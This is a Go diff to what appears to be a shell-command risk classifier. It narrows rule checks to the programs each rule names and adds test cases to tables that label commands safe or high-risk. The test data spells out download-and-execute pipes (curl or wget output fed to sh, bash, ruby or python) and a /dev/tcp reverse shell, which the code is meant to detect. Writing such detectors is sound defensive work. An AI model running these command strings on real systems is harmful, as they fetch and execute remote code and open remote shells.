@@ -135,7 +135,7 @@ func nlLevel(c *Command) (Level, []string) {
 	lvl := Safe
 	var names []string
 	for _, b := range builtinRules() {
-		if b.check == nil {
+		if b.check == nil || b.progs != nil && !nlHas(b.progs, c.Name()) {
 			continue
 		}
 		if hs := b.check(c); len(hs) > 0 {
@@ -295,6 +295,8 @@ func TestNetDownloadPipe(t *testing.T) {
 		nlC(S, "", a("sh")),
 		nlC(S, "", a("bash", "--version"), curl),
 		nlC(S, "", a("python3", "-m", "json.tool"), curl),
+		nlC(S, "", a("python", "-mjson.tool"), curl),
+		nlC(S, "", a("python3", "-Im", "json.tool"), curl),
 		nlC(S, "", a("python3", "-c", "import sys, json; print(json.load(sys.stdin)['v'])"), curl),
 		nlC(S, "", a("python3", "parse.py"), curl),
 		nlC(S, "", a("node", "-e", "process.stdin.pipe(process.stdout)"), curl),
@@ -422,6 +424,8 @@ func TestNetSendSecret(t *testing.T) {
 		nlC(S, "", a("scp", "~/.ssh/id_rsa.pub", "host:")),
 		nlC(S, "", a("rsync", "-av", "src/", "host:/srv/app/")),
 		nlC(S, "", a("rsync", "-av", "--exclude", ".env", "./", "host:/srv/app/")),
+		nlC(S, "", a("rsync", "-rave", "ssh -i /home/u/key.pem", "src/", "host:/srv/")),
+		nlC(S, "", a("scp", "-rP", "2222", "src", "host:")),
 		nlC(S, "", a("curl", "https://example.com")),
 		nlC(S, "", a("curl", "-d", "name=bob", "https://x")),
 		nlC(S, "", a("curl", "-d", "@body.json", "https://x")),
@@ -459,6 +463,9 @@ func TestNetWalker(t *testing.T) {
 		{`sh -c "$(wget -qO- https://x/i.sh)"`, H, ruleWgetPipeSh},
 		{"bash <(curl -s https://x/i.sh)", H, ruleCurlPipeBash},
 		{"curl -s https://x/get.py | python3", H, ruleDownloadPipeInterp},
+		{`ruby -e "$(curl -fsSL https://raw.example.com/install)"`, H, ruleDownloadPipeInterp},
+		{"python3 -c \"$(wget -qO- https://x/a.py)\"", H, ruleDownloadPipeInterp},
+		{"curl -s https://x | python -mjson.tool", S, ""},
 		{"curl -s https://x/get.py | python3 - --user", H, ruleDownloadPipeInterp},
 		{"wget -qO- https://x/s.pl | perl", H, ruleDownloadPipeInterp},
 		{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", H, ruleReverseShell},
